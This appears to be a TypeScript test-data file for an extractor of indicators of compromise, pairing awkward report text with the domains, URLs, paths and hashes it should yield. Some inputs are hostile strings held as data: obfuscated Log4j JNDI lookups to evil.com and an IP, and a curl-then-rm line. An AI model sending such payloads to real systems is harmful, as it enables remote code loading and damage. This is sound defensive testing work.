import type { Sentence } from './sentences.ts';

const MD5 = '9e107d9d372bb6826bd81d3542a419d6';

/** What was read wrongly in cases that somebody made up without a look at the rules. */
export const BLIND_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
  'what is written around a mark': [
    ['C2 was evil(.com). Then evil2(.net)), and the end(.)', 'domain evil.com', 'domain evil2.net'],
    ['hxxp[:]/[/]evil[.]com/x and hxxp:[/]/evil2[.]com/y', 'url http://evil.com/x', 'url http://evil2.com/y'],
    ['either/[/]or, a/[/]b.com', 'domain b.com'],
    ['xxxp://evil.com/x and xxxps://evil2.com', 'url http://evil.com/x', 'url https://evil2.com'],
    ['kötü[nokta]com.tr and evil(tečka)cz', 'domain xn--kt-fkaz.com.tr', 'domain evil.cz'],
    ['(nokta) and [tečka] are words'],
  ],
  'ligatures that a PDF was copied with': [
    ['o\uFB03ce-update.com, con\uFB01g.dll', 'domain office-update.com', 'filename config.dll'],
    ['the sta\uFB00 \uFB01led a \uFB02at report.Next'],
  ],
  'look-ups of Log4j': [
    ['\u0024{\u0024{lower:j}ndi:\u0024{lower:l}\u0024{lower:d}a\u0024{lower:p}://a.evil.com/x}', 'url ldap://a.evil.com/x'],
    ['\u0024{\u0024{::-j}\u0024{::-n}di:\u0024{::-r}\u0024{::-m}\u0024{::-i}://203.0.113.7:1389/E}', 'url rmi://203.0.113.7:1389/E'],
    ['\u0024{proto}://evil.com/x and a}://evil2.com', 'url evil.com/x', 'domain evil2.com'],
  ],
  'an URL that was broken behind its question mark': [
    ['<http://evil.com/a?\nx7>', 'url http://evil.com/a?x7'],
    ['Go to http://evil.com/a?\ntoken=1 now', 'url http://evil.com/a?token=1'],
    ['Was it http://evil.com/a?\nToken is bad.', 'url http://evil.com/a'],
    ['http://evil.com/?id=3D12&x=3Dy=\n%20z', 'url http://evil.com/?id=12&x=y%20z'],
    ['http://evil.com/?id=12&x=\nnext', 'url http://evil.com/?id=12&x='],
  ],
  'sections and versions in other languages': [
    ['Пункт 1.2.3.4, п. 3.1.2.4, Раздел 2.1.3.4 и wersja 2.3.4.5'],
    ['sürüm 3.1.2.4, verze 2.3.4.5'],
    ['узел 3.1.2.4', 'ipv4 3.1.2.4'],
  ],
  'what somebody asked a server for': [
    ['"POST /owa/auth/logon.aspx HTTP/1.1" 200 and GET /a.php?x=1'],
    ['GET /mine/random.exe, then /owa/shell.aspx', 'filename random.exe', 'filename shell.aspx'],
  ],
  'files in files': [['C:\\Temp\\a.iso->(UDF)->Setup.exe', 'windows-path C:\\Temp\\a.iso', 'filename Setup.exe']],
  'objects and sources of programs': [
    ['self.db.info, this.client.info and navigator.me'],
    ['the db.self.info', 'hostname db.self.info'],
    ['Makefile.am and evil.am', 'filename Makefile.am', 'domain evil.am'],
  ],
  'hardware addresses of digits alone': [
    ['0011.2233.4455 and MAC address 1234.5678.9012', 'mac-address 00:11:22:33:44:55', 'mac-address 12:34:56:78:90:12'],
    ['1234.5678.9012 and 0011.2233.445'],
  ],
  'a label of a hash with a remark': [[`MD5 (bytes): ${MD5.replaceAll(/..(?=.)/g, '$& ')}`, `md5 ${MD5}`]],
  'YARA rules whose expressions hold slashes and brackets': [
    [
      'rule A {\n strings:\n  $a = /x:\\/\\/[a-z]{3}\\/\\{/i\n  $b = "}"\n condition:\n  all of them\n}\n}',
      'yara rule A {\n strings:\n  $a = /x:\\/\\/[a-z]{3}\\/\\{/i\n  $b = "}"\n condition:\n  all of them\n}',
    ],
  ],
  'schemes with brackets in brackets': [
    ['(http[s]://evil.com/a), <http[s]://evil2.com/b>', 'url https://evil.com/a', 'url https://evil2.com/b'],
    ['(h(tt)p://evil.com/a) and [http]://evil2.com', 'url http://evil.com/a', 'url http://evil2.com'],
    ['http\\:\\/\\/evil.com\\/a', 'url http://evil.com/a'],
  ],
  'brackets and signs of other scripts': [
    ['evil【.】com，a【at】evil2【.】com', 'domain evil.com', 'email a@evil2.com'],
    ['evil.com【C2】，【重要】evil2.com【见下】', 'domain evil.com', 'domain evil2.com'],
    ['evil[点]com，邮箱a%40evil2.com和b(a)evil3.com', 'domain evil.com', 'email a@evil2.com', 'email b@evil3.com'],
    ['`a%40evil.com`', 'email a@evil.com'],
    ['攻击者使用loader.exe进行', 'filename loader.exe'],
  ],
  'what ends a key, a path or a pipe': [
    ['使用HKCU\\Software\\Evil\\Run进行通信', 'regkey HKCU\\Software\\Evil\\Run'],
    ["HKCU\\Software\\Evil\\Run—bad, HKCU\\Software\\Evil2's owner", 'regkey HKCU\\Software\\Evil\\Run', 'regkey HKCU\\Software\\Evil2'],
    ["HKCU\\Software\\Bob'sApp", "regkey HKCU\\Software\\Bob'sApp"],
    ['~~HKCU\\Software\\Evil~~, ~~/tmp/a.sh~~', 'regkey HKCU\\Software\\Evil', 'unix-path /tmp/a.sh'],
    ['~/x/a.sh~ and ~~/', 'unix-path ~/x/a.sh~'],
    ['*\\\\.\\pipe\\evil_1* but \\\\.\\pipe\\evil_2*', 'named-pipe \\\\.\\pipe\\evil_1', 'named-pipe \\\\.\\pipe\\evil_2*'],
  ],
  'user agents by a field in a path of fields': [
    ['http.user_agent = "EvilBot/1.0" or user_agent.original:"Evil2/1.0"', 'user-agent EvilBot/1.0', 'user-agent Evil2/1.0'],
    ['req.user_agent is set'],
  ],
  'lists of versions, numbers and names that only look like it': [
    ['Affected: 7.4.0 through 7.4.2, 7.2.0 - 7.2.6, version 6.2.0, 6.3.1, 6.3.2, 6.4.0.1; fixed'],
    ['Invoice +2024-001, but +683 4123 5', 'phone +68341235'],
    ['#main.live a.link:hover{} but #evil.live', 'domain evil.live'],
    ['-rwxr-xr-x 1 root root 48128 Mar  5 03:14 .evil.so', 'filename .evil.so'],
    ['at 48128 .evil.so', 'filename evil.so'],
  ],
  'what programs call their objects and modules': [
    ['re.search(x), time.now and buf.read of self.test, self.local'],
    ['metadata.name, test.name and kubernetes.pod.name, datetime.date, btn.click'],
    ['the domain evil.now and evil[.]read', 'domain evil.now', 'domain evil.read'],
    ['hosts:\nevil.next\nevil.call\n', 'domain evil.next', 'domain evil.call'],
    ['printer.local, test.live and chart.com', 'domain printer.local', 'domain test.live', 'domain chart.com'],
  ],
  'what stands right behind an URL': [
    ['http://evil.com【C2】, http://evil.com/a（C2）next', 'url http://evil.com', 'url http://evil.com/a'],
    ['http://evil.com-&gt;x, http://evil.com-- http://evil.com/a-->', 'url http://evil.com', 'url http://evil.com/a'],
    ['<http://evil.com/a->', 'url http://evil.com/a-'],
    ['http://evil.com+x, http://evil.com$ http://evil.com_)', 'url http://evil.com'],
    ['curl http://evil.com/a& curl http://evil.com/?b=1&& rm', 'url http://evil.com/a', 'url http://evil.com/?b=1'],
    ['http://evil.com/?a=1&&b=2 http://evil.com/a&b', 'url http://evil.com/?a=1&&b=2', 'url http://evil.com/a&b'],
    ['hxxp://evil[.]com/🔥 next', 'url http://evil.com/🔥'],
  ],
  'backslashes that are no escapes': [
    ['.\\run.ps1 and ..\\tools\\new.dll', 'windows-path .\\run.ps1', 'windows-path ..\\tools\\new.dll'],
    ['(.\\nc.exe) ends.\\nNext evil.com', 'windows-path .\\nc.exe', 'domain evil.com'],
    ['"\\u0068ttp://evil.com/a"', 'url http://evil.com/a'],
    ['^https?:\\/\\/evil\\.com\\/a\\.php$ and http://evil2.com/$a', 'url evil.com/a.php', 'url http://evil2.com/$a'],
  ],
  'words for the marks in more languages': [
    ['evil[pont]hu and a(snabel-a)evil.se, b[zavináč]evil.cz', 'domain evil.hu', 'email a@evil.se', 'email b@evil.cz'],
    ['c[kukac]evil.hu', 'email c@evil.hu'],
  ],
  'numbers of theorems and releases': [
    ['Theorem 1.2.3.4 implies Lemma 2.3.4.5; verzió: 1.2.3.4'],
    ['## [1.4.2.0] - 2024-03-05'],
    ['[198.51.100.7] 2024', 'ipv4 198.51.100.7'],
  ],
  'names that break off': [['evil[.]c…, and main.c…', 'filename main.c']],
  'folders behind a bracket, a full stop or a stand-in': [
    [
      'C:\\Program Files (x86)\\tool.exe, "C:\\Foo Inc.\\readme.txt"',
      'windows-path C:\\Program Files (x86)\\tool.exe',
      'windows-path C:\\Foo Inc.\\readme.txt',
    ],
    ['"C:\\\\Program Files (x86)\\\\new.exe"', 'windows-path C:\\Program Files (x86)\\new.exe'],
    ['\u0024{env:TEMP}\\run.ps1, <INSTALLDIR>\\new.exe', 'windows-path \u0024{env:TEMP}\\run.ps1', 'windows-path <INSTALLDIR>\\new.exe'],
    ['<br>\\nevil.com (C2)\\nevil2.com.\\nNext', 'domain evil.com', 'domain evil2.com'],
    ['in C:\\Temp\\a.exe from evil.com.\\nNext', 'windows-path C:\\Temp\\a.exe', 'domain evil.com'],
    ['x64\\Release\\new.dll and "%~dp0\\run.cmd"', 'windows-path x64\\Release\\new.dll', 'windows-path %~dp0\\run.cmd'],
  ],
  'expressions for whole words': [
    ['\\bevil\\.com\\b|(?:\\bsub\\.evil2\\.com\\b)', 'domain evil.com', 'hostname sub.evil2.com'],
    ['"\\\\bevil\\\\.com\\\\b" but D:\\bevil\\.com', 'domain evil.com', 'windows-path D:\\bevil\\.com'],
  ],
  'shares that JSON escaped': [
    ['{"a":"\\\\\\\\10.1.2.3\\\\c$\\\\temp\\\\run.exe"}', 'windows-path \\\\10.1.2.3\\c$\\temp\\run.exe'],
    ['"\\\\\\\\?\\\\C:\\\\Temp\\\\x.exe"', 'windows-path C:\\Temp\\x.exe'],
    ['the share \\\\\\\\srv01 is gone'],
  ],
  'where names of folders and files end': [
    ['C:\\new folder\\run.bat, D:\\a\\b (1).exe.', 'windows-path C:\\new folder\\run.bat', 'windows-path D:\\a\\b (1).exe'],
    ['C:\\Temp folder and C:\\key value', 'windows-path C:\\Temp', 'windows-path C:\\key'],
    ['{C:\\x\\{8F1B}\\y.dat} {HKCU\\Software\\{8F1B}}', 'windows-path C:\\x\\{8F1B}\\y.dat', 'regkey HKCU\\Software\\{8F1B}'],
    ['访问C:\\Temp进行 C:\\Temp2报告\\a.exe', 'windows-path C:\\Temp', 'windows-path C:\\Temp2报告\\a.exe'],
    ['C:\\Temp—then', 'windows-path C:\\Temp'],
  ],
  'digits with hyphens between': [
    ['00-11-22-33-44-55, MAC 12-34-56-78-90-12', 'mac-address 00:11:22:33:44:55', 'mac-address 12:34:56:78:90:12'],
    ['01-02-03-04-05-06 and 2024-03-05-10-11-12'],
  ],
  'dots that a program escaped': [
    ['evil%2Ecom, "sub%2Eevil2%2Eco%2Euk"', 'domain evil.com', 'hostname sub.evil2.co.uk'],
    ['100%2Ethe end of a%2Eb'],
    ['http://evil.com/?a=b%2Ecom', 'url http://evil.com/?a=b%2Ecom'],
  ],
};
